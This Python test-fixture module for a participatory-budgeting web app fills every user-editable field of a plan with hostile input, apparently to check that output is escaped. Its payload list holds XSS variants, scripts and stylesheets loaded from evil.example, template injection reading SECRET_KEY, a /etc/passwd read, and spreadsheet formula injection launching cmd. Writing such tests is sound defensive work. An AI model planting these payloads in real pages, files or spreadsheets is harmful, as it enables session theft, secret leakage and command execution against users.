"""Texts that try to run something in a reader's browser, file or log."""

from sqlalchemy.orm import Session

from pb.models import (
    BudgetRound,
    PlanAttachment,
    PlanDetails,
    PlanJoiner,
    PlanOpinion,
    PlanPhoto,
    PlanQuestion,
    Project,
    ProjectStatus,
    VerdictDraft,
)
from pb.projects.facts import Facts, store_facts
from pb.projects.history import note
from tests.factories import NOW
from tests.projects.factories import make_plan

# What of a plan is shown, and somebody typed.
TEXTS = (
    "title",
    "description",
    "place",
    "theme",
    "public_reason",
    "original_title",
    "title_reason",
)

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</ScRiPt >",
    "<<script>script>alert(1)<</script>/script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>klik</a>",
    "<form action=javascript:alert(1)><button>klik</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onerror=alert(1) `",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java\nscript:alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](javascript&colon;alert(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](vbscript:msgbox(1))",
    '[klik](https://example.org "onmouseover=alert(1)")',
    "[klik](<javascript:alert(1)>)",
    "[klik][x]\n\n[x]: javascript:alert(1)",
    "![plaatje](javascript:alert(1))",
    "![plaatje](https://evil.example/spoor.gif)",
    "<javascript:alert(1)>",
    "<https://example.org/?x=%22onmouseover=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "{{7*7}}",
    "{% raw %}{{ config.SECRET_KEY }}{% endraw %}",
    "%(title)s %s {title}",
    '=HYPERLINK("http://evil.example","klik")',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    # Signs that some programs take for the ones of HTML.
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039img src=x onerror=alert(1)\u203a",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "<img src=x one\u200brror=alert(1)>",
    "\u202e<script>alert(1)</script>\u202c",
    "[klik](\u2028javascript:alert(1))",
    "[klik](javascript\uff1aalert(1))",
    "[klik](//evil.example/x)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body onload=alert(1)>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>klik</text></a></svg>',
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "';alert(1);//",
    "${alert(1)}",
    '#eval("1+1") #read("/etc/passwd")',
    "+31 cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\uff1dHYPERLINK("http://evil.example")',
)


def hostile_plans(
    session: Session, budget_round: BudgetRound, status: ProjectStatus
) -> list[int]:
    """Make a plan of every payload, in every field; return their numbers."""
    return [
        make_plan(
            session, budget_round, status=status, **dict.fromkeys(TEXTS, payload)
        ).id
        for payload in PAYLOADS
    ]


def hostile_care(session: Session, budget_round: BudgetRound, text: str) -> Project:
    """Make a plan around which a text is everywhere that somebody can type one."""
    plan = make_plan(session, budget_round, **dict.fromkeys(TEXTS[:3], text))
    contest_id = budget_round.contests[0].id
    facts = Facts(
        for_whom=text,
        lines=((text, 100),),
        own_effort=text,
        needs=dict.fromkeys(("hands", "place", "support"), text),
        organisation=text,
        is_paid=True,
        paid_note=text,
    )
    store_facts(session, plan.id, facts)
    details = session.get_one(PlanDetails, plan.id)
    details.handled_by = details.next_step = text
    note(session, plan.id, "asked", at=NOW, text=text)
    rows = [
        PlanQuestion(question=text, asked_at=NOW, answer=text, answered_at=NOW),
        PlanQuestion(question=text, asked_at=NOW),
        PlanJoiner(name=text, email=text, phone=text, message=text, at=NOW),
        PlanOpinion(
            department=text,
            asked_at=NOW,
            given_at=NOW,
            verdict="no",
            note=text,
            ready_by=text,
        ),
        PlanAttachment(file_name=f"{plan.id:032x}", title=text, size=1, added_at=NOW),
        PlanPhoto(
            file_name=f"{plan.id:032x}.jpg",
            alt=text,
            width=1,
            height=1,
            position=1,
            added_at=NOW,
        ),
        VerdictDraft(
            is_feasible=True,
            cost=100,
            contest_id=contest_id,
            public_reason=text,
            title=text,
            saved_at=NOW,
        ),
    ]
    for row in rows:
        row.project_id = plan.id  # type: ignore[attr-defined]  # each has one
    session.add_all(rows)
    session.commit()
    return plan
